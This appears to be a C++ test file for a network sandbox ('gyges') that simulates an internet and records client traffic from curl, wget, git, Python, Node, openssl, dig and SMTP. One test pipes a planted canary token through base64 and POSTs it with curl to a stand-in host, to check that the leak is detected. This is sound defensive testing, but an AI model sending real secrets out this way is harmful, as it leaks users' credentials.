@@ -1,0 +1,223 @@
+// Real clients against the simulated internet of a persona: what they get, and what the record
+// says.
+#include <gmock/gmock.h>
+#include <unistd.h>
+
+#include <cstdlib>
+#include <fstream>
+#include <nlohmann/json.hpp>
+
+#include "gyges_process.h"
+
+namespace gyges {
+namespace {
+
+using nlohmann::json;
+using ::testing::HasSubstr;
+
+constexpr char token[] = "Zx9KqRv7Pd2LmW4tYb8N";
+
+bool installed(const std::string& program) {
+  for (const char* directory : {"/usr/bin/", "/bin/"})
+    if (::access((directory + program).c_str(), X_OK) == 0) return true;
+  return false;
+}
+
+#define NEEDS(program) \
+  if (!installed(program)) GTEST_SKIP() << program << " is not installed below /usr/bin"
+
+class Internet : public EndToEnd {
+ protected:
+  void SetUp() override {
+    EndToEnd::SetUp();
+    json persona =
+        read_json(std::filesystem::path(GYGES_SOURCE_DIR) / "policies/personas/bare.json");
+    persona["name"] = "test";
+    persona["organisation"]["company"] = "Example Works";
+    persona["network"] = {{"address", "10.20.30.40"}, {"nameservers", {"10.20.30.2"}}};
+    persona["internet"] = json::parse(R"({
+      "sites": [
+        {"host": ["web.example"], "files": [{"at": "/", "from": "site"}],
+         "mx": [{"host": "mx.example"}],
+         "pages": [{"path": "/take", "methods": ["POST"], "status": 202, "text": "taken"}]},
+        {"host": "mx.example"}],
+      "services": [{"protocol": "smtp", "host": "mx.example", "mailboxes": ["*@web.example"]}]})");
+    persona["internet"]["canaries"] = {{{"name", "key"}, {"token", token}}};
+    std::filesystem::create_directories(path("site"));
+    std::ofstream(path("site/hello.txt")) << "hello from far away\n";
+    ASSERT_TRUE(write_file_atomically(path("persona.json"), persona.dump()));
+    write_policy(path("policy.json"), json::object());
+    json policy = read_json(path("policy.json"));
+    policy["network"] = json::parse(R"({"mode": "gateway", "rules": [
+      {"name": "nothing else", "to": ["blocked.example"], "action": "refuse"},
+      {"name": "world", "action": "simulate"}]})");
+    ASSERT_TRUE(write_file_atomically(path("policy.json"), policy.dump()));
+  }
+
+  Finished inside(const std::string& script) {
+    std::filesystem::remove_all(path("run"));
+    return gyges({"run", "--recorder", "off", "--policy", path("policy.json").string(), "--persona",
+                  path("persona.json").string(), "--out", path("run").string(), "--", "sh", "-c",
+                  script});
+  }
+
+  // Rows of `gyges flows show --json` with these options.
+  std::vector<json> flows(const std::vector<std::string>& options = {}) {
+    std::vector<std::string> arguments{"flows", "show", path("run").string(), "--json"};
+    arguments.insert(arguments.end(), options.begin(), options.end());
+    Finished shown = gyges(arguments);
+    EXPECT_EQ(shown.status, 0) << shown.error;
+    std::vector<json> rows;
+    std::istringstream lines(shown.output);
+    for (std::string line; std::getline(lines, line);) rows.push_back(json::parse(line));
+    return rows;
+  }
+
+  // The one HTTP exchange of the run.
+  json exchange() {
+    auto rows = flows({"--protocol", "http"});
+    EXPECT_EQ(rows.size(), 1U);
+    return rows.size() == 1 ? rows.front() : json();
+  }
+};
+
+TEST_F(Internet, CurlSpeaksHttp1AndHttp2UnderATrustedCertificate) {
+  NEEDS("curl");
+  Finished run = inside("curl -sS -m 20 --http1.1 https://web.example/hello.txt");
+  ASSERT_EQ(run.status, 0) << run.error;
+  EXPECT_EQ(run.output, "hello from far away\n");
+  json flow = exchange();
+  EXPECT_EQ(flow["verdict"], "simulated");
+  EXPECT_EQ(flow["rule"], "world");
+  EXPECT_EQ(flow["sni"], "web.example");
+  EXPECT_EQ(flow["http"]["version"], "1.1");
+  EXPECT_EQ(flow["http"]["status"], 200);
+  EXPECT_EQ(flow["http"]["response_body"]["size"], 20);
+
+  run = inside("curl -sS -m 20 --http2 -w '%{http_version}' https://web.example/hello.txt");
+  ASSERT_EQ(run.status, 0) << run.error;
+  EXPECT_EQ(run.output, "hello from far away\n2");
+  EXPECT_EQ(exchange()["http"]["version"], "2");
+  EXPECT_EQ(gyges({"verify", path("run").string()}).status, 0);
+
+  // Positive control of the trust store: without it the same certificate is refused.
+  run = inside("curl -sS -m 20 --cacert /dev/null --capath /nowhere https://web.example/hello.txt");
+  EXPECT_NE(run.status, 0);
+}
+
+TEST_F(Internet, WhatThePolicyRefusesIsRefused) {
+  NEEDS("curl");
+  Finished run = inside("curl -sS -m 20 http://blocked.example/; curl -sS -m 20 http://192.0.2.7/");
+  EXPECT_NE(run.status, 0);
+  EXPECT_THAT(flows({"--protocol", "http"}), ::testing::IsEmpty());
+  auto refused = flows({"--protocol", "tcp", "--verdict", "refused"});
+  ASSERT_EQ(refused.size(), 1U);
+  EXPECT_EQ(refused[0]["destination"], "192.0.2.7");
+}
+
+TEST_F(Internet, ACanaryThatLeavesIsFound) {
+  NEEDS("curl");
+  Finished run = inside(std::string("printf %s ") + token +
+                        " | base64 | curl -sS -m 20 -d @- https://web.example/take");
+  ASSERT_EQ(run.status, 0) << run.error;
+  EXPECT_EQ(run.output, "taken");
+  auto hits = flows({"--canaries"});
+  ASSERT_EQ(hits.size(), 1U);
+  EXPECT_EQ(hits[0]["canaries"][0]["canary"], "key");
+  EXPECT_EQ(hits[0]["canaries"][0]["encoding"], "base64");
+  // Nothing was planted there: no hit.
+  run = inside("echo nothing | base64 | curl -sS -m 20 -d @- https://web.example/take");
+  ASSERT_EQ(run.status, 0) << run.error;
+  EXPECT_TRUE(flows({"--canaries"}).empty());
+}
+
+TEST_F(Internet, TheExportsHoldTheExchange) {
+  NEEDS("curl");
+  ASSERT_EQ(inside("curl -sS -m 20 http://web.example/hello.txt").status, 0);
+  std::string run = path("run").string();
+  Finished har = gyges({"flows", "export", run, "--format", "har"});
+  ASSERT_EQ(har.status, 0) << har.error;
+  json entries = json::parse(har.output)["log"]["entries"];
+  ASSERT_EQ(entries.size(), 1U);
+  EXPECT_EQ(entries[0]["request"]["url"], "http://web.example/hello.txt");
+  EXPECT_EQ(entries[0]["response"]["content"]["text"], "hello from far away\n");
+  Finished capture = gyges({"flows", "export", run, "--format", "pcapng"});
+  ASSERT_EQ(capture.status, 0) << capture.error;
+  EXPECT_EQ(capture.output.substr(0, 4), "\x0a\x0d\x0d\x0a");
+  EXPECT_THAT(gyges({"flows", "show", run}).output,
+              HasSubstr("GET http://web.example/hello.txt 200"));
+}
+
+TEST_F(Internet, Wget) {
+  NEEDS("wget");
+  Finished run = inside("wget -qO- -T 20 -t 1 https://web.example/hello.txt");
+  EXPECT_EQ(run.status, 0) << run.error;
+  EXPECT_EQ(run.output, "hello from far away\n");
+}
+
+TEST_F(Internet, GitClonesFromFiles) {
+  NEEDS("git");
+  std::string site = path("site").string();
+  std::string make = "cd " + site + " && export GIT_CONFIG_NOSYSTEM=1 HOME=" + site +
+                     " && git init -q w && cd w && echo one > README && git add README && "
+                     "git -c user.name=a -c user.email=a@web.example commit -qm first && cd .. && "
+                     "git clone -q --bare w tools.git && cd tools.git && git update-server-info && "
+                     "rm -rf ../w";
+  ASSERT_EQ(std::system(make.c_str()), 0);
+  Finished run =
+      inside("cd /tmp && git clone -q https://web.example/tools.git && cat tools/README");
+  EXPECT_EQ(run.status, 0) << run.error;
+  EXPECT_EQ(run.output, "one\n");
+}
+
+TEST_F(Internet, PythonUrllib) {
+  NEEDS("python3");
+  Finished run = inside(
+      "python3 -c 'import urllib.request as u; "
+      "print(u.urlopen(\"https://web.example/hello.txt\", timeout=20).read().decode(), end=\"\")'");
+  EXPECT_EQ(run.status, 0) << run.error;
+  EXPECT_EQ(run.output, "hello from far away\n");
+}
+
+TEST_F(Internet, NodeFetch) {
+  NEEDS("node");
+  Finished run = inside(
+      "node --use-openssl-ca -e "
+      "'fetch(\"https://web.example/hello.txt\").then(r => r.text()).then(t => console.log(t))'");
+  EXPECT_EQ(run.status, 0) << run.error;
+  EXPECT_THAT(run.output, HasSubstr("hello from far away"));
+}
+
+TEST_F(Internet, OpensslVerifiesTheChain) {
+  NEEDS("openssl");
+  Finished run = inside(
+      "openssl s_client -connect web.example:443 -servername web.example -verify_return_error "
+      "-verify_hostname web.example </dev/null");
+  EXPECT_EQ(run.status, 0) << run.error;
+  EXPECT_THAT(run.output, HasSubstr("Example Works Root CA"));
+  EXPECT_THAT(run.output, HasSubstr("Verify return code: 0 (ok)"));
+}
+
+TEST_F(Internet, DigAsksAnyResolver) {
+  NEEDS("dig");
+  Finished run = inside(
+      "dig +short +time=10 @192.0.2.53 web.example MX; dig +tcp +short +time=10 web.example A; "
+      "dig +time=10 nowhere.example A | grep -o 'status: [A-Z]*'");
+  EXPECT_EQ(run.status, 0) << run.error;
+  EXPECT_THAT(run.output, HasSubstr("10 mx.example."));
+  EXPECT_THAT(run.output, ::testing::ContainsRegex("(198\\.51\\.100|203\\.0\\.113)\\."));
+  EXPECT_THAT(run.output, HasSubstr("status: NXDOMAIN"));
+  EXPECT_EQ(flows({"--protocol", "dns"}).size(), 3U);
+}
+
+TEST_F(Internet, MailIsTakenAndRecorded) {
+  NEEDS("python3");
+  Finished run = inside(
+      "python3 -c 'import smtplib; s = smtplib.SMTP(\"mx.example\", timeout=20); "
+      "s.sendmail(\"a@b.example\", [\"c@web.example\"], \"Subject: x\\r\\n\\r\\nbody\")'");
+  EXPECT_EQ(run.status, 0) << run.error;
+  EXPECT_EQ(flows({"--protocol", "smtp"}).size(), 1U);
+}
+
+}  // namespace
+}  // namespace gyges
